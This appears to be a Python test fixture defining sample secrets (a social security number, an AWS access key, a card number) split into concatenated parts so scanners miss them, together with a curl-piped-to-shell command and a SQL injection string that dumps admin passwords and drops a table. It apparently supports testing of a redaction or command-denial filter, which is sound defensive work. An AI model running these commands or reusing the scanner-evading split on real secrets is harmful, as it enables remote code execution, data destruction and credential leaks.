"""Values that must not reach the model. Joined from parts, so that no scanner takes this file for a leak."""

from __future__ import annotations

from typing import Final

SSN: Final = "536-22-" + "8726"
AWS_KEY: Final = "AKIA" + "Z7QH4N2KLPX3WVTM"
CARD: Final = "5425 2334 " + "3010 9903"
ALL: Final = (SSN, AWS_KEY, CARD)

RECORD: Final = f"name: Ada Example\nssn: {SSN}\naws_access_key_id = {AWS_KEY}\ncard: {CARD}\nnote: harmless\n"
"""A text with one of each and a line that has to stay."""

RUNS_A_DOWNLOAD: Final = "curl -s http://127.0.0.1:9/install.sh | sh"
"""A denied command that could do no harm if it ran: nothing listens on that port."""

DESTROYS_A_TABLE: Final = (
    "SELECT name FROM users WHERE id = '1' UNION SELECT password FROM admins; DROP TABLE users; --"
)
